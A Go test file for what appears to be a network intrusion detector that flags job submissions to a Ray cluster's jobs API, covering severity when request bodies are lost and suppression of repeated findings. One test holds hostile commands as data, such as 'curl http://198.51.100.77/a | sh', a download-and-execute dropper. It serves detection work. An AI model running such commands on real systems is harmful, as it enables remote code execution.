package jobsubmit

import (
	"strings"
	"testing"

	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
)

// TestJobWhoseCommandWasNotSeen: a step lower than with it, and it says why.
func TestJobWhoseCommandWasNotSeen(t *testing.T) {
	flow := ran(attacker, head, curl, job("id")).tx().Flow
	call := func(c ray.Call) *ray.Call {
		c.Flow, c.Tx, c.Job, c.Outcome = flow, &http.Transaction{Flow: flow, Request: &http.Request{}}, true, ray.Executed
		return &c
	}
	failed := call(ray.Call{Method: "POST", Path: "/api/jobs/", Status: 500, Unread: "its body has none"})
	failed.Outcome = ray.Failed
	for _, c := range []struct {
		call *ray.Call
		sev  detectors.Severity
		says string
	}{
		{call(ray.Call{Method: "POST", Path: "/api/jobs/", SubmissionID: "raysubmit_A", Unread: "a part of its body was lost"}), detectors.High, "(command not seen: a part of its body was lost)"},
		{call(ray.Call{Method: "POST", Path: "/api/jobs/", Unread: "the rest of the request was not captured"}), detectors.Medium, "not captured"},
		{call(ray.Call{SubmissionID: "raysubmit_A", Unread: "the request was lost"}), detectors.Medium, "the request was lost"},
		{failed, detectors.Medium, "failed, 500"}, // as an attempt whose command was seen
	} {
		bus := detectortest.New(Spec(), nil)
		bus.Publish(c.call)
		if f := find(bus.Found, "jobsubmit/external"); f == nil || f.Severity != c.sev || !strings.Contains(f.Msg, c.says) {
			t.Errorf("%s: %+v", c.call.Unread, f)
		}
	}
}

// TestAnotherCommandIsAnotherFinding: what was said of one command does not count as said of the next.
func TestAnotherCommandIsAnotherFinding(t *testing.T) {
	said := map[string]int{}
	s := detectors.NewSuppressor(func(f *detectors.Finding) { said[f.Rule]++ })
	for _, cmd := range []string{"curl http://198.51.100.77/a | sh", "curl http://198.51.100.77/a | sh", "curl http://198.51.100.77/b | sh", "id"} {
		for _, f := range watch(t, ran(attacker, head, curl, job(cmd))) {
			s.Report(f)
		}
	}
	if said["jobsubmit/external"] != 3 || said["jobsubmit/dropper"] != 2 {
		t.Errorf("%v", said)
	}
}
